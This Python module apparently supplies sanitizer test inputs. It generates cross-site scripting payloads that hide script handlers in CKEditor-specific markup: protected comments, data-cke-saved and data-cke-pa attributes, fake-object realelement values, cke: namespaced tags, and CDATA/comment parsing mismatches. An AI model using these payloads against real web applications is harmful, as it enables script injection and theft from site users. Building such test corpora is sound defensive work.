"""Marks of the editor itself: how it hides comments, handlers and scripts from the browser."""

from itertools import product
from urllib.parse import quote

from .words import ELSEWHERE, RUN

IMAGE = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"
FRAME = f"<iframe src=javascript:{RUN}></iframe>"
HIDDEN = (IMAGE, SCRIPT, FRAME, f"<svg onload={RUN}>")
SAVED = ("href", "src", "name", "action", "data", "poster")
PARTS = (
    "data-cke-widget-wrapper=1", "data-cke-widget-id=0", "data-cke-widget-upcasted=1",
    "data-widget=image", "data-cke-widget-data='%7B%22src%22%3A%22javascript%3Ahit()%22%7D'",
    "data-cke-widget-editable=x", "data-cke-display-name=x", "data-cke-filter=off",
    "data-cke-editable=1", "data-cke-expando=1", "data-cke-bookmark=1", "data-cke-temp=1",
    "data-cke-upload-id=1", "data-cke-survive=1", "data-cke-enter-mode=2", "data-cke-marker=1",
    "data-cke-title=x", "data-cke-magic-line=1", "data-cke-copybin-start=1",
    "data-cke-hidden-sel=1", "data-cke-bogus=1", "data-cke-eol=1",
    "data-cke-editorplaceholder='x'", "data-cke-filler-webkit=end", "class=cke_reset_all",
    "id=cke_id_body",
)  # fmt: skip
NAMESPACED = (
    "script", "style", "iframe", "object", "embed", "param", "encoded", "body", "html", "link",
    "svg",
)  # fmt: skip
HIDERS = ("style", "script", "title", "textarea", "noscript", "xmp", "iframe", "svg", "math")


def protected_sources():
    """Comments that the editor unpacks into what was hidden in them."""
    marks = (
        "{cke_protected}",
        "{cke_protected}{C}",
        "{cke_protected_1}",
        "{cke_protected_9}{C}",
        "{CKE_PROTECTED}",
    )
    for mark, hidden in product(marks, HIDDEN):
        yield f"<!--{mark}{quote(hidden)}-->"
        yield f"<p>x<!--{mark}%3C!--{quote(hidden)}--%3E--></p>"
        yield f'<a href="/" title="<!--{mark}{quote(hidden)}-->">x</a>'


def temporary_marks():
    for hidden, mark in product(
        HIDDEN, ("{cke_temp}", "{cke_temp_1}", "{cke_tempcomment_1}", "%7Bcke_protected%7D")
    ):
        yield f"<p>{mark}{hidden}{mark}</p>"
        yield f"<textarea>{mark}{hidden}</textarea><!--{mark}-->"


def saved_attributes():
    for name in SAVED:
        for address in (f"javascript:{RUN}", f"{ELSEWHERE}/saved", "&#106;avascript:hit()"):
            yield f'<a data-cke-saved-{name}="{address}" {name}="/">x</a>'
            yield f'<img data-photo="1" data-cke-saved-{name}="{address}">'
        yield f'<iframe data-cke-pa-{name}="javascript:{RUN}"></iframe>'
    for event in ("onclick", "onerror", "onload", "onfocus", "ontoggle"):
        yield f'<p data-cke-pa-{event}="{RUN}" tabindex=0>x</p>'
        yield f'<a href=/ data-cke-pa-{event}="{RUN}" {event}="{RUN}">x</a>'
        yield f'<p data-cke-{event}="{RUN}" cke-{event}={RUN} _cke_pa_{event}={RUN}>x</p>'
    for hidden in HIDDEN:
        yield f'<iframe data-cke-pa-srcdoc="{hidden}"></iframe>'


def fake_objects():
    """Elements that claim to stand for another one, packed into an attribute."""
    for hidden in HIDDEN:
        for kind in ("iframe", "flash", "anchor", "form", "hr", "hiddenfield"):
            yield (
                f'<img class="cke_{kind}" data-cke-realelement="{quote(hidden)}" '
                f'data-cke-real-element-type="{kind}" data-cke-real-node-type="1" src="x">'
            )
        yield f'<p data-cke-realelement="{quote(hidden)}" data-cke-real-node-type="8">x</p>'


def editor_parts():
    for part in PARTS:
        yield f"<p {part} onclick={RUN}>x</p>"
        yield f"<span {part} contenteditable=false>{IMAGE}</span>"
        yield f'<img data-photo="1" {part} onload={RUN}>'


def editor_namespace():
    """Names that the editor puts before what a browser must not read, and takes away again."""
    for name in NAMESPACED:
        yield f"<cke:{name}>{RUN}</cke:{name}>"
        yield f"<cke:{name} src='javascript:{RUN}' onload={RUN}>{IMAGE}"
        yield f"<cke:encoded>{quote(f'<{name}>{RUN}</{name}>')}</cke:encoded>"
        yield f"<CKE:{name.upper()} data-cke-pa-onload={RUN}>{SCRIPT}</CKE:{name.upper()}>"


def hidden_ends():
    """CDATA and comments that the editor's parser and the browser end at different places."""
    for name in HIDERS:
        yield f"<{name}><![CDATA[</{name}>{IMAGE}]]></{name}>"
        yield f"<{name}><![CDATA[<!--]]></{name}>{IMAGE}--></{name}>"
        yield f"<{name}><!--<![CDATA[--></{name}><p title=']]>{IMAGE}'>x</p>"
        yield f"<{name}>/*<![CDATA[*/</{name}/>{IMAGE}/*]]>*/</{name}>"
        yield f'<p title="<{name}>"><![CDATA[{IMAGE}]]></p><{name}>"></{name}>'
        yield f"<{name}<!-- >{IMAGE}</{name}-->"
